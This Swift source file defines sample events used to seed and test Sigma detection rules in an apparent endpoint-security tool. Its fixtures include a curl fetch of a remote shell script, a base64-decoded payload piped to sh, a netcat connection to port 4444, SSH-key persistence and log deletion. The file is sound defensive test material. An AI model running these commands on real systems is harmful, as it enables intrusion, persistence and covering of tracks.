import VigilCore

/// Events of every kind, with the fields Sigma rules look at, for seeds and for evaluating fuzzed
/// rules against.
public enum SampleEvents {
    public static let all: [Event] = {
        let payloads: [Event.Payload] = [
            .file(
                FileEvent(
                    action: .create,
                    targetFilename: "/root/.ssh/authorized_keys",
                    metadata: FileMetadata(mode: 0o100600, uid: 0, gid: 0, size: 412, inode: 131_077),
                    sha256: String(repeating: "ab", count: 32),
                    image: "/usr/bin/bash",
                    processId: 4242,
                    user: "root"
                )
            ),
            .file(
                FileEvent(
                    action: .attrib,
                    targetFilename: "/tmp/.x/payload",
                    metadata: FileMetadata(mode: 0o104755, uid: 1000, gid: 1000, size: 8_192, inode: 99)
                )
            ),
            .file(FileEvent(action: .rename, targetFilename: "/etc/cron.d/job", sourceFilename: "/tmp/job")),
            .file(FileEvent(action: .delete, targetFilename: "/var/log/auth.log")),
            .process(
                ProcessEvent(
                    action: .exec,
                    processId: 31_337,
                    parentProcessId: 1,
                    image: "/usr/bin/curl",
                    commandLine: "curl -fsSL http://10.0.0.5/x.sh",
                    argv: ["curl", "-fsSL", "http://10.0.0.5/x.sh"],
                    currentDirectory: "/tmp",
                    user: "www-data",
                    uid: 33,
                    euid: 33,
                    gid: 33,
                    parentImage: "/usr/bin/bash",
                    parentCommandLine: "bash -i",
                    startTimeTicks: 123_456
                )
            ),
            .process(
                ProcessEvent(
                    action: .exec,
                    processId: 2,
                    image: "/usr/bin/base64",
                    commandLine: "base64 -d /dev/shm/p | sh",
                    argv: ["base64", "-d"],
                    user: "root",
                    uid: 0
                )
            ),
            .flow(
                FlowEvent(
                    ts: 1_764_300_000.25,
                    duration: 1.5,
                    proto: "tcp",
                    origH: "10.1.2.3",
                    origP: 44_122,
                    respH: "203.0.113.9",
                    respP: 4444,
                    origPkts: 12,
                    respPkts: 10,
                    origIPBytes: 900,
                    respIPBytes: 1_400,
                    origBytes: 200,
                    respBytes: 700,
                    origTCPFlags: 0x1b,
                    respTCPFlags: 0x1b,
                    state: "SF",
                    communityID: "1:abc=",
                    image: "/usr/bin/nc",
                    processId: 77
                )
            ),
            .flow(
                FlowEvent(
                    ts: 1,
                    duration: 0,
                    proto: "udp",
                    origH: "fe80::1",
                    origP: 5353,
                    respH: "ff02::fb",
                    respP: 5353
                )
            ),
            .alert(
                Alert(
                    ruleId: "6a2f1b5c-0000-4000-8000-000000000001",
                    title: "SSH key added",
                    level: "high",
                    tags: ["attack.t1098.004"]
                )
            ),
            .health(AgentHealth(kind: "queue_drop", message: "12 event(s) dropped", counters: ["file": 12])),
            .gap(GapRecord(firstSeq: 10, lastSeq: 20, droppedByType: ["file": 9, "flow": 2], reason: "spool full")),
        ]
        return payloads.enumerated().map { i, payload in
            Event(
                seq: UInt64(i + 1),
                time: Timestamp(nanosecondsSinceEpoch: 1_764_300_000_000_000_000 + Int64(i)),
                payload: payload
            )
        }
    }()
}
